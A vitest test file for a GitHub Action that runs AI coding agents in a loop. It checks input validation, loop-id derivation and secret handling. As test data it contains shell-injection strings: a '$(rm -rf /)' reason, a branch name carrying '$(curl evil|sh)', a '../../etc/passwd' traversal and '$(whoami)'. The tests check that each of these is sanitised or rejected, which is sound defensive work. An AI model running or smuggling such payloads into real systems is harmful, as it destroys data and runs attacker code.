import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import {
  ActionInputError,
  actionConfigRequest,
  deriveLoopId,
  type EventContext,
  parseActionInputs,
  parseSecretLines,
  sanitiseLoopId,
  secretValues,
  simpleModeOptions,
} from '../../../src/config/action-inputs.js'
import { ConfigError } from '../../../src/config/errors.js'

const noEvent: EventContext = { eventName: 'workflow_dispatch', payload: {}, runId: 777 }

/** action.yml's defaults, as the runner fills them in (an INPUT_<NAME> variable for every input with one). */
const actionYml = parse(readFileSync(join(import.meta.dirname, '..', '..', '..', 'action.yml'), 'utf8')) as {
  inputs: Record<string, { default?: string | number | boolean }>
}
const RUNNER_DEFAULTS: Record<string, string> = Object.fromEntries(
  Object.entries(actionYml.inputs).map(([name, input]) => [name, String(input.default ?? '')]),
)

/** The inputs as the runner hands them over: action.yml's defaults, `github.token` evaluated, then `values`. */
function inputs(values: Record<string, string>) {
  const all: Record<string, string> = { ...RUNNER_DEFAULTS, 'github-token': 'tok-1234', ...values }
  return (name: string) => all[name] ?? ''
}

function problemsOf(values: Record<string, string>, event = noEvent): string[] {
  try {
    parseActionInputs(inputs(values), event)
  } catch (error) {
    expect(error).toBeInstanceOf(ActionInputError)
    expect(error).toBeInstanceOf(ConfigError)
    return [...(error as ActionInputError).problems]
  }
  return []
}

describe('parseActionInputs', () => {
  it('applies the documented defaults', () => {
    const settings = parseActionInputs(inputs({}), noEvent)
    expect(settings).toMatchObject({
      config: '.github/loop.yml',
      configIsDefault: true,
      loopId: 'run-777',
      loopIdSource: 'run',
      store: 'git',
      stateBranch: 'loop-state',
      command: 'run',
      dispatch: true,
      allowUntrusted: false,
      workingDirectory: '.',
      failOn: ['blocked', 'capped', 'aborted'],
      githubToken: 'tok-1234',
      pushToken: 'tok-1234',
      verify: [],
      secrets: {},
    })
    expect(settings.maxIterations).toBeUndefined()
    expect(settings.iteration).toBeUndefined()
    expect(settings.work).toBeUndefined()
  })

  it('parses every input that is set', () => {
    const settings = parseActionInputs(
      inputs({
        work: 'claude -p "$(cat prompt.md)"',
        verify: 'npm run build\n\n# comment\n  npm test  \r\nnpx tsc --noEmit\n',
        'loop-id': 'my loop/42',
        'max-iterations': '40',
        'cap-reason': 'large migration',
        store: 'git',
        'state-branch': 'loop/state',
        'push-token': 'push-5678',
        iteration: '3',
        command: 'skip',
        task: 'docs:api',
        reason: 'covered by "another" task; $(rm -rf /)',
        dispatch: 'false',
        'budget-minutes': '90.5',
        'allow-untrusted': 'TRUE',
        secrets: 'API_KEY=abc=def\nFROM_ENV',
        'working-directory': 'packages/app',
      }),
      noEvent,
      { FROM_ENV: 'env-value' },
    )
    expect(settings).toMatchObject({
      work: 'claude -p "$(cat prompt.md)"',
      verify: ['npm run build', 'npm test', 'npx tsc --noEmit'],
      config: '.github/loop.yml',
      configIsDefault: true,
      loopId: 'my-loop-42',
      loopIdSource: 'input',
      maxIterations: 40,
      capReason: 'large migration',
      store: 'git',
      stateBranch: 'loop/state',
      pushToken: 'push-5678',
      iteration: 3,
      command: 'skip',
      task: 'docs:api',
      reason: 'covered by "another" task; $(rm -rf /)',
      dispatch: false,
      budgetMinutes: 90.5,
      allowUntrusted: true,
      secrets: { API_KEY: 'abc=def', FROM_ENV: 'env-value' },
      missingSecrets: [],
      workingDirectory: 'packages/app',
    })
    expect(secretValues(settings).sort()).toEqual(['abc=def', 'env-value', 'push-5678', 'tok-1234'])
  })

  const bad: Array<{ values: Record<string, string>; message: string }> = [
    {
      values: { 'max-iterations': 'abc' },
      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got 'abc'.",
    },
    {
      values: { 'max-iterations': '0' },
      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got '0'.",
    },
    {
      values: { 'max-iterations': '1001' },
      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got '1001'.",
    },
    {
      values: { 'max-iterations': '2.5' },
      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got '2.5'.",
    },
    { values: { 'max-iterations': '30' }, message: "set 'cap-reason'" },
    { values: { store: 's3' }, message: "Input 'store' must be one of auto, cache, artifact, git; got 's3'." },
    {
      values: { command: 'merge' },
      message:
        "Input 'command' must be one of run, resume, approve, abort, skip, sweep, plan, verify, decide; got 'merge'.",
    },
    {
      values: { 'stale-after-minutes': '0' },
      message: "Input 'stale-after-minutes' must be a whole number of minutes from 1 to 10080 (a week); got '0'.",
    },
    {
      values: { 'stale-after-minutes': 'soon' },
      message: "Input 'stale-after-minutes' must be a whole number of minutes from 1 to 10080 (a week); got 'soon'.",
    },
    {
      values: { command: 'sweep', store: 'cache' },
      message:
        "Input 'store' must be 'git' when 'command' is 'sweep' (only the git store lists every loop); got 'cache'.",
    },
    { values: { dispatch: 'yes' }, message: "Input 'dispatch' must be true or false; got 'yes'." },
    { values: { dashboard: 'on' }, message: "Input 'dashboard' must be true or false; got 'on'." },
    {
      values: { dashboard: 'true', store: 'auto' },
      message:
        "Input 'dashboard' needs 'store: git' (only the git store lists every loop); got 'dashboard: true' with store 'auto'.",
    },
    { values: { 'allow-untrusted': '1' }, message: "Input 'allow-untrusted' must be true or false; got '1'." },
    {
      values: { 'budget-minutes': '-5' },
      message:
        "Input 'budget-minutes' must be a number of minutes below 350 (GitHub ends a job on its runners after 6 hours; empty or 0: one iteration per job); got '-5'.",
    },
    { values: { 'budget-minutes': '350' }, message: "Input 'budget-minutes' must be a number of minutes below 350" },
    { values: { iteration: 'next' }, message: "Input 'iteration' must be a whole number" },
    { values: { command: 'approve' }, message: "Input 'gate' is required when 'command' is 'approve'" },
    { values: { command: 'approve', gate: 'Sec urity' }, message: "Input 'gate' must be a gate name" },
    { values: { command: 'skip', reason: 'x' }, message: "Input 'task' is required when 'command' is 'skip'." },
    { values: { command: 'skip', task: 'docs' }, message: "Input 'reason' is required when 'command' is 'skip'" },
    { values: { command: 'verify' }, message: "Input 'leg' is required when 'command' is 'verify'" },
    { values: { command: 'plan', 'hand-off': '\0' }, message: "Input 'hand-off' must be a path" },
    { values: { task: 'a;b' }, message: "Input 'task' must be a task name" },
    { values: { 'state-branch': 'a..b' }, message: "Input 'state-branch' must be a branch name" },
    { values: { 'loop-id': '///' }, message: "Input 'loop-id' must contain letters or digits" },
    { values: { 'github-token': '' }, message: "Input 'github-token' must be a token; got ''." },
    {
      values: { 'fail-on': 'blocked,failed' },
      message:
        "Input 'fail-on' must be a comma-separated list of blocked, capped, aborted, or none; got 'blocked,failed'.",
    },
    { values: { 'fail-on': 'none,blocked' }, message: "Input 'fail-on' must be a comma-separated list" },
    { values: { 'fail-on': ',' }, message: "Input 'fail-on' must be a comma-separated list" },
    { values: { 'fail-on': 'sometimes' }, message: "Input 'fail-on' must be a comma-separated list" },
    { values: { 'max-iterations': '-1' }, message: "Input 'max-iterations' must be a whole number from 1 to 1000" },
    { values: { 'budget-minutes': 'x' }, message: "Input 'budget-minutes' must be a number of minutes below 350" },
    { values: { 'max-loops': '-1' }, message: "Input 'max-loops' must be a whole number from 1 to 1000" },
    {
      values: { agent: 'Claudette' },
      message: "Input 'agent' must be one of claude, codex, gemini, aider, command (in any case); got 'Claudette'.",
    },
    { values: { isolation: 'strict' }, message: "Input 'isolation' must be one of auto, pid-namespace, none" },
    {
      values: { command: 'decide', 'person-command': 'merge' },
      message:
        "Input 'person-command' must be one of run, resume, approve, abort, skip (the reusable workflow's 'command', which decide applies); got 'merge'.",
    },
    {
      values: { command: 'decide', 'verify-result': 'passed' },
      message: "Input 'verify-result' must be a job's result: success, failure, cancelled, skipped; got 'passed'.",
    },
  ]
  it.each(bad)('names the bad value: $message', ({ values, message }) => {
    const problems = problemsOf(values)
    expect(problems.some((problem) => problem.includes(message))).toBe(true)
  })

  // GitHub's == ignores case, so the reusable workflow installs claude's CLI for `Claude`: taken the same.
  it.each(['Claude', 'CODEX', 'claude'])('reads agent %s in any case', (value) => {
    expect(parseActionInputs(inputs({ agent: value }), noEvent).agent).toBe(value.toLowerCase())
  })

  it.each([
    { value: 'blocked', failOn: ['blocked'] },
    { value: ' Capped , blocked,capped ', failOn: ['capped', 'blocked'] },
    { value: 'none', failOn: [] },
  ])('reads fail-on $value', ({ value, failOn }) => {
    expect(parseActionInputs(inputs({ 'fail-on': value }), noEvent).failOn).toEqual(failOn)
  })

  it.each(['', '0', '0.0'])('takes budget-minutes %j as one iteration per job, in fan-out too', (value) => {
    expect(parseActionInputs(inputs({ 'budget-minutes': value }), noEvent).budgetMinutes).toBeUndefined()
    expect(problemsOf({ 'budget-minutes': value, command: 'plan' })).toEqual([])
  })

  it.each(['', 'success', 'failure', 'cancelled', 'skipped'])(
    'takes verify-result %j, a job result GitHub gives',
    (value) => {
      expect(problemsOf({ command: 'decide', 'verify-result': value })).toEqual([])
    },
  )

  it('reports every problem at once', () => {
    expect(problemsOf({ 'max-iterations': 'x', store: 'y', dispatch: 'z' })).toHaveLength(3)
  })

  it('never quotes a secrets line back', () => {
    const problems = problemsOf({ secrets: 'not a name=hunter2hunter2' })
    expect(problems).toHaveLength(1)
    expect(problems[0]).not.toContain('hunter2')
    expect(problems[0]).toContain("Input 'secrets' line 1")
  })

  it('quotes long values shortened and on one line', () => {
    const problems = problemsOf({ store: `${'x'.repeat(500)}\nnext` })
    expect(problems[0]!.length).toBeLessThan(300)
  })
})

describe('loop id', () => {
  const cases: Array<{ name: string; event: EventContext; loopId: string; source: string }> = [
    {
      name: 'an issue',
      event: { eventName: 'issues', payload: { issue: { number: 42 } }, runId: 1 },
      loopId: 'issue-42',
      source: 'issue',
    },
    {
      name: 'a comment on a pull request',
      event: { eventName: 'issue_comment', payload: { issue: { number: 7, pull_request: { url: 'x' } } }, runId: 1 },
      loopId: 'pr-7',
      source: 'pull-request',
    },
    {
      name: 'a pull request',
      event: {
        eventName: 'pull_request',
        payload: { pull_request: { number: 9, head: { ref: 'feature' } } },
        runId: 1,
      },
      loopId: 'pr-9',
      source: 'pull-request',
    },
    {
      name: "a review on a loop's own pull request",
      event: {
        eventName: 'pull_request_review',
        payload: {
          pull_request: { number: 57, head: { ref: 'loop/issue-42', repo: { full_name: 'acme/demo' } } },
          repository: { full_name: 'acme/demo' },
        },
        runId: 1,
      },
      loopId: 'issue-42',
      source: 'pull-request',
    },
    {
      name: "a fork's pull request whose branch is named like a loop's",
      event: {
        eventName: 'pull_request_review',
        payload: {
          pull_request: { number: 58, head: { ref: 'loop/issue-42', repo: { full_name: 'mallory/demo' } } },
          repository: { full_name: 'acme/demo' },
        },
        runId: 1,
      },
      loopId: 'pr-58',
      source: 'pull-request',
    },
    {
      name: 'a branch name with shell metacharacters',
      event: {
        eventName: 'pull_request',
        payload: {
          pull_request: { number: 5, head: { ref: 'loop/$(curl evil|sh);`id`', repo: { full_name: 'acme/demo' } } },
          repository: { full_name: 'acme/demo' },
        },
        runId: 1,
      },
      loopId: 'curl-evil-sh-id',
      source: 'pull-request',
    },
    {
      name: 'a dispatch',
      event: { eventName: 'workflow_dispatch', payload: {}, runId: 99 },
      loopId: 'run-99',
      source: 'run',
    },
  ]
  it.each(cases)('is derived from $name', ({ event, loopId, source }) => {
    expect(deriveLoopId(event)).toEqual({ loopId, source })
    expect(parseActionInputs(inputs({}), event).loopId).toBe(loopId)
  })

  const sanitised = [
    { raw: 'issue-42', expected: 'issue-42' },
    { raw: '../../etc/passwd', expected: 'etc-passwd' },
    { raw: '..', expected: '' },
    { raw: 'a b\tc\nd', expected: 'a-b-c-d' },
    { raw: '$(whoami)', expected: 'whoami' },
    { raw: 'x'.repeat(150), expected: 'x'.repeat(100) },
    { raw: 'ünïcödé', expected: 'n-c-d' },
  ]
  it.each(sanitised)('sanitises $raw', ({ raw, expected }) => {
    const id = sanitiseLoopId(raw)
    expect(id).toBe(expected)
    expect(id).toMatch(/^([A-Za-z0-9][A-Za-z0-9._-]*)?$/)
  })
})

describe('secrets and simple mode', () => {
  it('lists names with no value in the environment', () => {
    expect(parseSecretLines('A\nB=\n# note\nC', { A: 'x', C: '' })).toEqual({
      secrets: { A: 'x', B: '' },
      missing: ['C'],
      problems: [],
    })
  })

  it('gives simple-mode options when work (or a preset agent) and verify are set', () => {
    expect(simpleModeOptions(parseActionInputs(inputs({}), noEvent))).toBeNull()
    expect(
      simpleModeOptions(
        parseActionInputs(inputs({ work: 'agent', verify: 'npm test', 'max-iterations': '5' }), noEvent),
      ),
    ).toEqual({ work: 'agent', verify: ['npm test'], maxIterations: 5 })
    expect(simpleModeOptions(parseActionInputs(inputs({ agent: 'claude', verify: 'npm test' }), noEvent))).toEqual({
      agent: 'claude',
      verify: ['npm test'],
    })
  })

  // Behaviour changed: half of simple mode, or simple mode beside a named config, was passed over in
  // silence (the file ran instead); it is refused now, as the CLI refuses it.
  it.each<{ name: string; values: Record<string, string>; problem: string | null; configIsDefault: boolean }>([
    { name: 'the default filled in', values: {}, problem: null, configIsDefault: true },
    { name: 'config left empty', values: { config: '' }, problem: null, configIsDefault: true },
    {
      name: 'the default path spelled ./',
      values: { config: './.github/loop.yml' },
      problem: null,
      configIsDefault: true,
    },
    { name: 'a named config', values: { config: 'ci/loop.yml' }, problem: null, configIsDefault: false },
    {
      name: 'simple mode over the default config',
      values: { work: 'agent', verify: 'npm test' },
      problem: null,
      configIsDefault: true,
    },
    {
      name: 'simple mode with a named config',
      values: { work: 'agent', verify: 'npm test', config: 'ci/loop.yml' },
      problem:
        "Inputs 'work' and 'verify' (simple mode) and input 'config' ('ci/loop.yml') each name the loop's work and checks; use one. Leave 'work' and 'verify' empty to run ci/loop.yml, or leave 'config' at its default to run simple mode.",
      configIsDefault: false,
    },
    {
      name: 'verify alone with a named config',
      values: { agent: 'codex', verify: 'go test ./...', config: 'ci/loop.yml' },
      problem: "Inputs 'work' and 'verify' (simple mode) and input 'config' ('ci/loop.yml')",
      configIsDefault: false,
    },
    {
      name: 'work without verify',
      values: { work: 'agent' },
      problem: "Input 'work' is simple mode, which needs 'verify' (the check commands, one per line); got none.",
      configIsDefault: true,
    },
    {
      name: 'verify without work or a preset',
      values: { verify: 'npm test' },
      problem: "Input 'verify' is simple mode, which needs 'work' (the work command) or an agent preset in 'agent'",
      configIsDefault: true,
    },
    {
      name: "verify with agent 'command' and no work",
      values: { verify: 'npm test', agent: 'command' },
      problem: "Input 'verify' is simple mode, which needs 'work'",
      configIsDefault: true,
    },
  ])('simple mode and the config: $name', ({ values, problem, configIsDefault }) => {
    const problems = problemsOf(values)
    if (problem === null) {
      expect(problems).toEqual([])
      expect(parseActionInputs(inputs(values), noEvent).configIsDefault).toBe(configIsDefault)
    } else {
      expect(problems).toHaveLength(1)
      expect(problems[0]).toContain(problem)
    }
  })

  it.each<{ name: string; values: Record<string, string>; fileNamed: boolean; simple: boolean }>([
    { name: 'the default config path', values: {}, fileNamed: false, simple: false },
    { name: 'a named config path', values: { config: 'ci/loop.yml' }, fileNamed: true, simple: false },
    { name: 'simple mode', values: { work: 'agent', verify: 'npm test' }, fileNamed: false, simple: true },
  ])('asks the config loader for $name', ({ values, fileNamed, simple }) => {
    const request = actionConfigRequest(parseActionInputs(inputs(values), noEvent), '/work/repo')
    const name = values.config ?? '.github/loop.yml'
    expect(request.file).toEqual({ path: `/work/repo/${name}`, name })
    expect(request.fileNamed).toBe(fileNamed)
    expect(request.simple !== null).toBe(simple)
    expect(request.missing).toContain(`No loop config at '${name}'`)
  })

  it('hands the cap inputs to the config loader, named as inputs', () => {
    const settings = parseActionInputs(inputs({ 'max-iterations': '30', 'cap-reason': 'migration' }), noEvent)
    expect(actionConfigRequest(settings, '/r').cap).toMatchObject({ maxIterations: 30, capReason: 'migration' })
    expect(actionConfigRequest(settings, '/r').cap.names.cap).toBe("Input 'max-iterations'")
  })
})
